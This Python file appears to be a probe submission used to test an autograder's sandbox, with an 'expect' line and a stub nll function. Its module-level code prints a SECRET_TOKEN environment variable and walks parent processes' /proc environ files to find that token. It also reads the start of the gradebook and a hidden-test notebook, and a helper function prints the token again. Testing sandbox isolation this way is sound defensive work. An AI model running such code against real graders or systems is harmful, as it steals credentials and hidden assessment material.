# A blank nll. Prints what the grader keeps from learners into its own feedback: $SECRET_TOKEN
# (from its environment, and from /proc/PID/environ of every process above it), the first bytes of
# the gradebook and of the hidden tests in source/. build_vocab prints the secret too, so the
# judge's probe is tried on both routes.
# expect: nll=not attempted
import os


def _leak():
    print("LEAK env", os.environ.get("SECRET_TOKEN"))
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/environ", "rb") as fh:
                print("LEAK proc", [v for v in fh.read().split(b"\0") if v.startswith(b"SECRET_TOKEN=")])
        except (OSError, ValueError, IndexError):
            break
    course = os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))
    for rel in ("gradebook.db", "source/01_bigram/bigram.ipynb"):
        try:
            with open(os.path.join(course, rel), "rb") as fh:
                print("LEAK file", rel, fh.read()[:2000])
        except OSError as e:
            print("LEAK file", rel, "refused:", type(e).__name__)


_leak()


def build_vocab(words):
    print("LEAK probe", os.environ.get("SECRET_TOKEN"))
    chars = sorted(set("".join(words)))
    stoi = {".": 0, **{c: i + 1 for i, c in enumerate(chars)}}
    itos = {i: c for c, i in stoi.items()}
    return stoi, itos


def nll(P, words, stoi):
    raise NotImplementedError()
